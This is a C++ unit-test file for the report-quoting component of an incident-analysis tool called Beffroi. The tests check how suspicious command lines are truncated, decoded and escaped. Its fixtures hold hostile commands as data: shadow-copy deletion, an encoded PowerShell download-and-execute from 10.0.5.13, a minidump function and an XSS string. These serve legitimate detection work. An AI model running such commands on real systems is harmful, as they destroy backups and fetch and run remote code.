// SPDX-License-Identifier: EUPL-1.2
#include "report/quoted.h"

#include <gtest/gtest.h>

#include "base/base64.h"
#include "base/text.h"
#include "report/columns.h"
#include "report/ground.h"
#include "report/sample_test.h"

namespace beffroi::report {
namespace {

std::string encoded(std::string_view script) { return base::base64(base::as_bytes(base::utf8_to_utf16le(script))); }

model::Finding run_of(std::string command) {
  model::Finding finding;
  finding.question = "incident";
  finding.statement = "encoded_command";
  finding.state = "yes";
  finding.arguments = {
      {"host", std::string("PC1")}, {"account", std::string()}, {"count", std::int64_t{1}}, {"detail", std::move(command)}};
  return finding;
}

TEST(Quoted, AShortCommandStandsAsItIs) {
  EXPECT_EQ(quotable("vssadmin delete shadows /all"), "vssadmin delete shadows /all");
  const std::string digest(64, 'a');
  EXPECT_EQ(quotable("certutil -hashfile x " + digest), "certutil -hashfile x " + digest) << "a digest is no hidden text";
}

TEST(Quoted, CommentsAndBlocksOfBase64AreLeftOutAndThatIsSeen) {
  EXPECT_EQ(quotable("function Out-Minidump { <# .SYNOPSIS Generates #> BEGIN"), "function Out-Minidump { … BEGIN");
  EXPECT_EQ(quotable("function Out-Minidump { <# .SYNOPSIS cut"), "function Out-Minidump { …");
  const std::string block = encoded("Write-Output 'a text of some length for a block'");
  EXPECT_EQ(quotable("powershell -enc " + block + " -nop"), "powershell -enc " + block.substr(0, 12) + "… -nop");
}

TEST(Quoted, WhatIsCutSaysSoAndEndsWithAWholeCharacter) {
  std::string text;
  for (int i = 0; i < 300; ++i) text += "é ";
  const std::string shown = quotable(text);
  EXPECT_TRUE(shown.ends_with("…"));
  EXPECT_LE(shown.size(), kMostQuoted + std::string_view("…").size());
  EXPECT_TRUE(base::is_valid_utf8(shown));
  EXPECT_EQ(quotable(quotable(text)).size(), shown.size()) << "once is enough";
}

TEST(Quoted, ASentenceShowsWhatItsCommandHidesAndWhoDecodedIt) {
  const std::string script = "IEX (iwr\nhttp://10.0.5.13/a.ps1)";
  const auto words = sample::catalogue(base::Language::french);
  const std::string sentence = plain(sentence_of(run_of("powershell -nop -enc " + encoded(script)), {}, words));
  EXPECT_NE(sentence.find("décodé par Beffroi"), sentence.npos) << sentence;
  EXPECT_NE(sentence.find("IEX (iwr http://10.0.5.13/a.ps1)"), sentence.npos) << sentence;
  EXPECT_EQ(sentence.find(encoded(script)), sentence.npos) << "the block itself is in the cited record";
  const std::string open = plain(sentence_of(run_of("powershell -enc"), {}, words));
  EXPECT_EQ(open.find("décodé"), open.npos) << open;
}

TEST(Quoted, CommentsOfHiddenTextAreLeftOutToo) {
  const std::string script =
      "\r\nfunction Invoke-X {\r\n <# .SYNOPSIS\n " + std::string(500, 'x') + " #>\r\n iwr http://10.0.5.13/a }";
  const std::string command = "IEX ([Convert]::FromBase64String(\"" + base::base64(base::as_bytes(script)) + "\"))";
  EXPECT_EQ(decoded_start(command), "function Invoke-X { … iwr http://10.0.5.13/a }");
  EXPECT_LE(decoded_start("powershell -enc " + encoded(std::string(5000, ' ') + std::string(500, '.'))).size(),
            kMostDecoded + std::string_view("…").size());
}

TEST(Quoted, WhatIsDecodedIsStillTextOfTheEvidence) {
  const auto words = sample::catalogue(base::Language::english);
  bool marked = false;
  for (const base::Piece& piece : sentence_of(run_of("powershell -enc " + encoded("<script>alert(1)</script>")), {}, words))
    marked = marked || (piece.from_argument && piece.text == "<script>alert(1)</script>");
  EXPECT_TRUE(marked) << "a report isolates and escapes what is from an argument";
}

}  // namespace
}  // namespace beffroi::report
